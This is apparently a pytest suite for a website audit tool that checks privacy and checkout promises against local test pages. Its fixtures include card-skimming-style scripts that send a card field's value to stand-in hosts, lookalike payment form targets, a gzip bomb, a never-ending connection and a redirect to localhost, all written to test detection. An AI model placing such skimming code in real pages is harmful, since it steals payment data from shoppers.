"""Sites are visited page by page: each planted fault is found, none on the clean twin, and nobody else is asked."""

import gzip
import shutil
import time

import pytest

from audit.model import Verdict
from audit.sources.probes import browser, web
from tests.probes.scenes import scene, verdict
from tests.probes.web_server import WebServer

HOST = "www.hosting.example"
COOKIES, OTHERS = "probes-web-no-cookies", "probes-web-nobody-else-asked"
FORMS, LINKS = "probes-web-forms-ask-what-is-promised", "probes-web-points-to-commissioner"
PAGES, CHECKOUT = "probes-web-promised-pages-there", "probes-web-checkout-posts-to-processor"
PROMISED = {
    "pages": 20,
    "enquiry_fields": ["name", "e-mail", "details"],
    "loads_allowed": [],
    "links_required": ["ico.example"],
    "payment_hosts": ["pay.example"],
}
CANARY = "Mustermann-7f3c"
FORM = "<form action='/sent' method=post><input name=name><input name=email><textarea name=details></textarea></form>"
CLEAN = {
    "/": f"<a href='/privacy'>privacy</a> <a href='contact.html'>write</a> <link rel=stylesheet href='/own.css'>{FORM}",
    "/privacy": "<a href='https://ico.example/'>the Commissioner</a> <a href='/'>home</a>",
    "/contact.html": "<img src='/own.png'> write to us",
    "/sent": "thank you",
}


def run_of(site, **named):
    """Return a run that visits a site, and the targets that it goes by."""
    lists = {name: [f"{site}{path}" for path in paths] for name, paths in named.items()}
    targets = {"probes": {**PROMISED, "sites": [], "pages_required": [], "checkouts": [], **lists}}
    # A browser takes longer where others run beside it.
    seconds = 15.0 if "checkouts" in named else 1.0
    return scene(targets, hosts={HOST: "127.0.0.1"}, seconds=seconds), targets


def visited(pages, **named):
    """Visit a site; returns what was found, the targets, and what was asked of it."""
    server = WebServer(pages)
    with server.running() as site:
        run, targets = run_of(site, **(named or {"sites": ["/"]}))
        return web.probe(run), targets, server.asked


@pytest.fixture
def no_browser(monkeypatch):
    """Take the browser out of reach: what it alone sees is not known then."""
    monkeypatch.setenv("PATH", "/nowhere")


def told(pages, control, **named):
    found, targets, _ = visited(pages, **named)
    return verdict(control, found, targets)[0]


def test_without_a_browser_only_what_is_wrong_shows(no_browser):
    """What scripts do nothing else sees, so that nothing is proved of what they could do."""
    found, targets, asked = visited(CLEAN)
    assert [verdict(one, found, targets)[0] for one in (COOKIES, OTHERS, FORMS)] == [Verdict.UNPROVEN] * 3
    assert verdict(LINKS, found, targets)[0] is Verdict.KEPT
    assert sorted(asked) == ["/", "/contact.html", "/privacy"]


def cookie(*names):
    return {"Set-Cookie": [f"{name}={CANARY}; Path=/; HttpOnly" for name in names]}


@pytest.mark.parametrize(
    ("pages", "control"),
    [
        pytest.param({"/": (200, cookie("ARRAffinity", "B"), "hello")}, COOKIES, id="a cookie"),
        pytest.param({"/privacy": (200, cookie("late"), "hello")}, COOKIES, id="a cookie on the second page"),
        pytest.param({"/": (302, {"Location": "/privacy", **cookie("way")}, "")}, COOKIES, id="a cookie on the way"),
        pytest.param({"/": (200, {"Set-Cookie": CANARY}, "hello")}, COOKIES, id="a cookie without a name"),
        pytest.param({"/": "<script src='https://statistics.example/a.js'></script>"}, OTHERS, id="a script of others"),
        pytest.param({"/": "<link rel='preconnect' href='//fonts.example'>"}, OTHERS, id="a font of others"),
        pytest.param({"/": "<base href='https://cdn.example/'><img src='a.png'>"}, OTHERS, id="another base"),
        pytest.param({"/contact.html": "<form><input name=birthday></form>"}, FORMS, id="a field more"),
        pytest.param({"/contact.html": "<input id=iban>"}, FORMS, id="a field outside of any form"),
        pytest.param(
            {"/privacy": "<a href='https://elsewhere.example/'>look</a>"}, LINKS, id="no link to the Commissioner"
        ),
    ],
)
def test_each_fault_breaks_its_own_promise(no_browser, pages, control):
    found, targets, _ = visited(CLEAN | pages)
    assert verdict(control, found, targets)[0] is Verdict.BROKEN
    assert CANARY not in repr(found)


def drip(connection):
    """Send a byte now and then, and never an end."""
    try:
        while True:
            connection.sendall(b"H")
            time.sleep(0.1)
    except OSError:
        pass


ENDLESS = (200, {"Content-Type": "text/html"}, b"x" * 200_000)
BOMB = (200, {"Content-Encoding": "gzip"}, gzip.compress(b"0" * 5_000_000))


CUT = gzip.compress(b"0" * 5000)[:-9]


@pytest.mark.parametrize(
    "page",
    [
        pytest.param(drip, id="a byte now and then"),
        pytest.param(lambda connection: connection.sendall(b"no sense\r\n\r\n"), id="no HTTP"),
        pytest.param(lambda connection: connection.close(), id="it hangs up"),
        pytest.param(ENDLESS, id="more than is read"),
        pytest.param(BOMB, id="packed more than is read"),
        pytest.param((200, {"Content-Encoding": "gzip"}, CUT), id="packed and cut off"),
        pytest.param((200, {"Content-Encoding": "br"}, b"?"), id="packed in another way"),
        pytest.param((200, {}, "<a " * 30_000), id="tags without an end"),
        pytest.param((403, {}, "no"), id="refused"),
        pytest.param((200, {}, " "), id="empty"),
        pytest.param((503, {}, "later"), id="at fault"),
        pytest.param((302, {"Location": "/contact.html"}, ""), id="it leads to itself"),
        pytest.param((302, {"Location": "http://["}, ""), id="it leads to what is no URL"),
    ],
)
def test_a_page_that_cannot_be_read_is_counted_as_unread(no_browser, page):
    """It never ends a run, and is never a page without faults."""
    found, targets, _ = visited(CLEAN | {"/contact.html": page})
    assert (found.resources[0].body["pages"], found.resources[0].body["unread"]) == (2, 1)
    assert (
        verdict(LINKS, found, targets | {"probes": {**PROMISED, "links_required": ["other.example"]}})[0]
        is Verdict.UNPROVEN
    )


def test_a_site_whose_first_page_cannot_be_read_is_a_gap(no_browser):
    found, targets, _ = visited({"/": (403, {}, "no")})
    assert (found.resources, verdict(COOKIES, found, targets)[0]) == ((), Verdict.UNPROVEN)


def test_more_pages_than_are_visited_are_said(no_browser):
    many = {"/": "".join(f"<a href='/{number}'>x</a>" for number in range(30))} | {f"/{n}": "x" for n in range(30)}
    found, _, _ = visited(many)
    assert found.resources[0].body["whole"] is False


def test_a_site_is_one_however_its_links_are_spelt(no_browser):
    server = WebServer({"/": "", "/a": "x"})
    with server.running() as site:
        server.pages["/"] = f"<a href='{site.upper().replace('HTTP', 'http')}/a'>a</a>"
        run, _ = run_of(site, sites=["/"])
        assert web.probe(run).resources[0].body["pages"] == 2


def test_a_redirect_to_this_machine_is_not_followed(no_browser):
    """It serves others, too."""
    inner = WebServer({"/admin": "<input name=inner>"})
    with inner.running() as other:
        port = other.rpartition(":")[2]
        found, _, _ = visited(CLEAN | {"/contact.html": (302, {"Location": f"http://127.0.0.1:{port}/admin"}, "")})
    assert inner.asked == []
    assert "127.0.0.1" in found.resources[0].body["linksTo"]


def test_nobody_else_is_asked(no_browser):
    """A redirect or a link to another host is written down, and not followed."""
    pages = CLEAN | {"/contact.html": (302, {"Location": "https://elsewhere.example/x"}, "")}
    found, _, _ = visited(pages)
    assert "elsewhere.example" in found.resources[0].body["linksTo"]


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        pytest.param("our terms", Verdict.KEPT, id="there"),
        pytest.param((404, {}, "gone"), Verdict.BROKEN, id="gone"),
        pytest.param("  ", Verdict.BROKEN, id="empty"),
        pytest.param((302, {"Location": "https://elsewhere.example/"}, ""), Verdict.BROKEN, id="somebody else's"),
        pytest.param((301, {"Location": "/privacy"}, ""), Verdict.KEPT, id="moved"),
        pytest.param((200, {"Content-Type": "application/pdf"}, "%PDF"), Verdict.KEPT, id="a document"),
        pytest.param((200, {"Content-Type": "application/octet-stream"}, "x"), Verdict.BROKEN, id="a file"),
        pytest.param((503, {}, "later"), Verdict.UNPROVEN, id="at fault"),
        pytest.param(lambda connection: connection.close(), Verdict.UNPROVEN, id="it hangs up"),
    ],
)
def test_a_promised_page_is_there_or_the_promise_is_broken(page, expected):
    assert told(CLEAN | {"/terms": page}, PAGES, pages_required=["/terms"]) is expected


needs_browser = pytest.mark.skipif(
    not any(map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), reason="no Chromium on this machine"
)
THEIRS = "<form action='https://secure.pay.example/x'><input name=card>{}</form>"


def component(mode, action="/own", field="card"):
    """Return a web component with a form of its own."""
    return (
        f"<own-{mode}></own-{mode}><script>customElements.define('own-{mode}', class extends HTMLElement {{"
        f"constructor() {{ super(); this.attachShadow({{mode: '{mode}'}}).innerHTML ="
        f"'<form action={action}><input name={field}></form>' }} }})</script>"
    )


def scripted(does):
    """Return their form with a script that does something when it is sent."""
    return THEIRS.format("") + f"<script>[...document.forms].pop().onsubmit = function(event) {{ {does} }}</script>"


SENT_BY_A_SCRIPT = """
event.preventDefault();
if (confirm('sure?') && event.isTrusted && this.card.value.length === 16) {
  fetch('https://fetched.example/', {method: 'POST', body: 'x'});
  new WebSocket('wss://socket.example/');
  navigator.sendBeacon('https://beacon.example/');
  new Image().src = 'https://pictured.example/1.gif?' + this.card.value;
  open('https://popup.example/', '_blank', 'noopener');
  window.onpagehide = () => navigator.sendBeacon('https://left.example/');
}
"""
INSIDE = """
<own-button></own-button><script>customElements.define('own-button', class extends HTMLElement {
  constructor() {
    super();
    const button = document.createElement('button');
    button.onclick = () => fetch('https://inside.example/', {method: 'POST'});
    this.attachShadow({mode: 'closed'}).append(button);
  }
})</script>
"""
LEADING = {
    "<form action='/paid'><input name=card></form>": HOST + " (not encrypted)",
    "<form action='https://pay.example.evil.example/'></form>": "pay.example.evil.example",
    "<form action='http://pay.example/'></form>": "pay.example (not encrypted)",
    "<iframe src='https://frame.example/'></iframe><iframe src='about:blank'></iframe>": "frame.example",
    "<iframe id=late></iframe><script>late.contentWindow.location = 'https://placed.example/card'</script>":
        "placed.example",
    "<object data='https://object.example/card' type='text/html'></object>": "object.example",
    THEIRS.format(
        "<button formaction='https://button.example/'>go</button><input oninput=\"fetch('https://typed.example/')\">"
    ): "button.example typed.example",
    "<script>document.write('<form action=https://written.example/><input></form>')</script>": "written.example",
    component("open", "https://open.example/"): "open.example",
    component("closed", "https://closed.example/"): "closed.example",
    "<div><template shadowrootmode=closed><form action=https://tree.example/><input></form></template></div>":
        "tree.example",
    "<iframe srcdoc='<form action=https://inner.example/><input></form>'></iframe>": "inner.example",
    scripted(SENT_BY_A_SCRIPT):
        "fetched.example socket.example beacon.example pictured.example popup.example left.example",
    scripted("this.action = 'https://turned.example/'"): "turned.example",
    THEIRS.format("<button type=button onclick=\"fetch('https://clicked.example/', {method: 'POST'})\">go</button>"):
        "clicked.example",
    "<script>Document.prototype.querySelectorAll = () => []</script>"
    "<form action='https://named.example/'><input name=elements><input name=getAttribute></form>": "named.example",
    INSIDE: "inside.example",
}  # fmt: skip
"""What stands on a checkout → the hosts to which it leads, words apart."""


@needs_browser
def test_a_checkout_that_leads_elsewhere_is_found_however_it_does():
    """Its buttons are pressed, and nothing of that reaches anybody."""
    found, targets, asked = visited({"/pay": "".join(LEADING)}, checkouts=["/pay"])
    places = found.resources[0].body["postsTo"]
    led = {code: [hosts] if hosts in places else hosts.split() for code, hosts in LEADING.items()}
    assert [host for hosts in led.values() for host in hosts if host not in places] == []
    assert verdict(CHECKOUT, found, targets)[0] is Verdict.BROKEN
    assert set(asked) <= {"/pay", "/favicon.ico"}


KEPT_IN = """
const link = document.createElement('a'); link.href = '/own'; link.download = 'x'; link.click();
const other = open('about:blank'); other.setTimeout(() => other.fetch('/own'), 900);
document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: '/own'}));
const work = `fetch('${location.origin}/own', {method: 'POST', mode: 'no-cors'})`;
new Worker(URL.createObjectURL(new Blob([work])));
"""


@needs_browser
def test_nothing_that_a_form_sends_leaves_the_browser():
    _, _, asked = visited({"/pay": scripted(KEPT_IN) + THEIRS.format("")}, checkouts=["/pay"])
    assert set(asked) <= {"/pay", "/favicon.ico"}


@needs_browser
def test_a_checkout_that_leads_to_the_processor_alone_is_kept():
    """What turns a wheel or shows a field sends nothing; what a script sends goes to them, too."""
    page = (
        THEIRS.format("<input required><button type=button>show</button><button>go</button>")
        + scripted("new Image().src = '/wheel.png'")
        + scripted("event.preventDefault(); fetch('https://api.pay.example/x')")
        + "<iframe src='https://pay.example/frame'></iframe>"
    )
    found, targets, _ = visited({"/pay": page}, checkouts=["/pay"])
    assert verdict(CHECKOUT, found, targets)[0] is Verdict.KEPT, found


@needs_browser
@pytest.mark.parametrize(
    "page",
    [
        pytest.param(THEIRS.format("") + "<input name=card>", id="a script's"),
        pytest.param(THEIRS.format("") + "<div contenteditable>4111</div>", id="a text that is written in"),
        pytest.param(scripted("event.preventDefault()"), id="held back by a script"),
        pytest.param("<img src='https://pay.example/logo.png'>", id="their picture alone"),
        pytest.param((500, {}, ""), id="at fault"),
    ],
)
def test_a_checkout_of_which_it_is_not_known_where_it_leads_proves_nothing(page):
    assert told({"/pay": page}, CHECKOUT, checkouts=["/pay"]) is Verdict.UNPROVEN


def test_a_checkout_that_no_browser_saw_proves_nothing(no_browser):
    page = "<form action='https://secure.pay.example/x'><input name=card></form>"
    assert told({"/pay": page}, CHECKOUT, checkouts=["/pay"]) is Verdict.UNPROVEN


def test_without_a_site_nothing_is_proved():
    run, _ = run_of("http://www.hosting.example:1")
    found = web.probe(run)
    assert (found.resources, [gap.kinds for gap in found.gaps]) == ((), [(kind.arm,) for kind in web.KINDS])


SCRIPTED = {
    "document.cookie = 'seen=Mustermann-7f3c'": "seen",
    "document.cookie = 'short=1; Max-Age=2'": "short",
    "localStorage.setItem('visitor', 'Mustermann-7f3c')": "localStorage visitor",
    "sessionStorage.setItem('visit', 'Mustermann-7f3c')": "sessionStorage visit",
    "indexedDB.open('visitors')": "indexedDB visitors",
    "document.write('<iframe src=/keeps></iframe>')": "localStorage framed",
    "fetch('https://statistics.example/x').catch(() => 0)": "statistics.example",
    "fetch('http://203.0.113.9/x').catch(() => 0)": "203.0.113.9",
    "new WebSocket('ws://203.0.113.10/x')": "203.0.113.10",
    "new Image().src = 'https://pictures.example/1.gif'": "pictures.example",
    "document.write('<form><input name=birthday></form>')": "birthday",
    component("open", field="iban")[len("<own-open></own-open><script>") : -len("</script>")]
    + "; document.write('<own-open></own-open>')": "iban",
}
"""What a script does → by what it shows."""


@needs_browser
def test_a_clean_site_keeps_its_promises_in_a_browser():
    found, targets, _ = visited(CLEAN | {"/": CLEAN["/"] + "<script>let here = 1</script>"})
    assert [verdict(one, found, targets)[0] for one in (COOKIES, OTHERS, FORMS, LINKS)] == [Verdict.KEPT] * 4


@needs_browser
def test_a_dead_link_hides_nothing_in_a_browser():
    found, targets, _ = visited(CLEAN | {"/": CLEAN["/"] + "<a href='/nowhere'>gone</a>"})
    assert [verdict(one, found, targets)[0] for one in (COOKIES, OTHERS, FORMS, LINKS)] == [Verdict.KEPT] * 4


@needs_browser
def test_a_page_that_never_lets_go_is_ended(monkeypatch):
    """The browser is ended with it, and what it saw is not known."""
    monkeypatch.setattr(browser, "_STARTING", 4.0)
    found, targets, _ = visited({"/": "<script>setTimeout(() => { while (true) {} }, 300)</script>"})
    assert "browser" not in found.resources[0].body
    assert verdict(COOKIES, found, targets)[0] is Verdict.UNPROVEN


@needs_browser
def test_what_scripts_do_shows_in_a_browser():
    """Each on a page of its own."""
    pages = {f"/{number}": f"<body><script>{code}</script>" for number, code in enumerate(SCRIPTED)}
    pages["/"] = "".join(f"<a href='{path}'>x</a>" for path in pages)
    pages["/keeps"] = "<script>localStorage.setItem('framed', 'Mustermann-7f3c')</script>"
    found, targets, _ = visited(pages)
    seen = found.resources[0].body["browser"]
    shown = {*seen["cookies"], *seen["stored"], *seen["asked"], *seen["fields"]}
    assert [code for code, name in SCRIPTED.items() if name not in shown] == []
    assert [verdict(one, found, targets)[0] for one in (COOKIES, OTHERS, FORMS)] == [Verdict.BROKEN] * 3
    assert CANARY not in repr(found)
